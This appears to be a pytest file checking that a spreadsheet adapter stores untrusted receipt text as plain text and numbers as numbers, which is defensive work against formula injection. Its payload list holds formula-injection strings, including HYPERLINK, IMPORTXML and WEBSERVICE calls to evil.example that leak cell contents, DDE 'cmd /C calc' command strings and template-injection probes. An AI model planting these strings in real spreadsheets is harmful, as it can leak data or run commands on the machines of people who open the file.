"""Promise 23: what a stranger writes on a receipt never becomes a formula in the sheet, and numbers stay numbers."""

import itertools
import json
from decimal import Decimal

import pytest

from adapters.sheets import Row, Sheet
from kit import files

STARTS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "'=", "\uff1d", "=-+", "\ufeff=", "\u200b=", '"=', ";="]
CALLS = [
    "1+1",
    'HYPERLINK("http://evil.example/?"&A1,"click")',
    'IMPORTXML("http://evil.example/","//a")',
    'IMPORTRANGE("1abc","A1:Z99")',
    'IMAGE("http://evil.example/p.png")',
    "cmd|' /C calc'!A0",
    'DDE("cmd";"/C calc";"x")',
    "SUM(A:A)",
    'WEBSERVICE("http://evil.example/")',
    "A1",
    "2+5+cmd|' /C notepad'!A0",
    "CONCATENATE(A1:Z1)",
]
TAILS = ["", "#", "\x00", '","']
LOOKALIKES = [
    *(
        "TRUE",
        "FALSE",
        "#REF!",
        "#N/A",
        "1/2",
        "01/02/2026",
        "2026-11-21",
        "13:05",
        "12.10",
        "1.234,56",
        "1e5",
        "007",
        "50%",
    ),
    *("12,10 €", "$5", "0x1F", "NaN", "Infinity", "null", "[object Object]", "{{ secret('X') }}", "${7*7}", "<b>x</b>"),
]
PAYLOADS = [start + call + tail for start, call, tail in itertools.product(STARTS, CALLS, TAILS)][:477] + LOOKALIKES
TITLES = [
    text for key, text in json.loads(files.read_text("messages/es.json")).items() if key.startswith("sheet.column.")
]
ID, NUMBER = TITLES[0], "Total"
TEXTS = [title for title in TITLES if title not in {ID, NUMBER}]


@pytest.fixture
def sheet(env, service_account, quick):
    return Sheet(env, service_account, TITLES, policy=quick)


def test_five_hundred_payloads_stay_text_in_every_text_column(sheet, sandbox):
    assert len(set(PAYLOADS)) == 500
    rows = [
        Row(f"T-{n}", dict.fromkeys(TEXTS, payload) | {NUMBER: Decimal(n) / 100}) for n, payload in enumerate(PAYLOADS)
    ]
    sheet.flush(rows)
    stored = sandbox.rows(title="Tickets")[1:]
    assert len(stored) == 500
    for n, (payload, cells) in enumerate(zip(PAYLOADS, stored, strict=True)):
        row = dict(zip(TITLES, cells, strict=True))
        assert {title: row[title] for title in TEXTS} == dict.fromkeys(TEXTS, payload.replace("\x00", ""))
        assert row[NUMBER] == n / 100
        assert not isinstance(row[NUMBER], str)


def test_a_payload_in_an_update_and_in_the_id_stays_text(sheet, sandbox):
    for _ in range(2):
        sheet.flush([Row("=1+1", dict.fromkeys(TEXTS, "=1+1"))])
    [row] = sandbox.rows(title="Tickets")[1:]
    assert set(row) - {None} == {"=1+1"}


def test_without_raw_the_sandbox_would_evaluate_them(sandbox, env, sheet):
    """The control: entered as a person does, the tests above would fail."""
    sheet.flush([Row("T-1", {NUMBER: 1})])
    entered = {"valueInputOption": "USER_ENTERED"}
    sheet._gateway.values_update(env.sheet_id, "'Tickets'!B2", entered, {"values": [["=1+1"]]})
    assert sandbox.rows(title="Tickets")[1][1] == {"formula": "=1+1"}
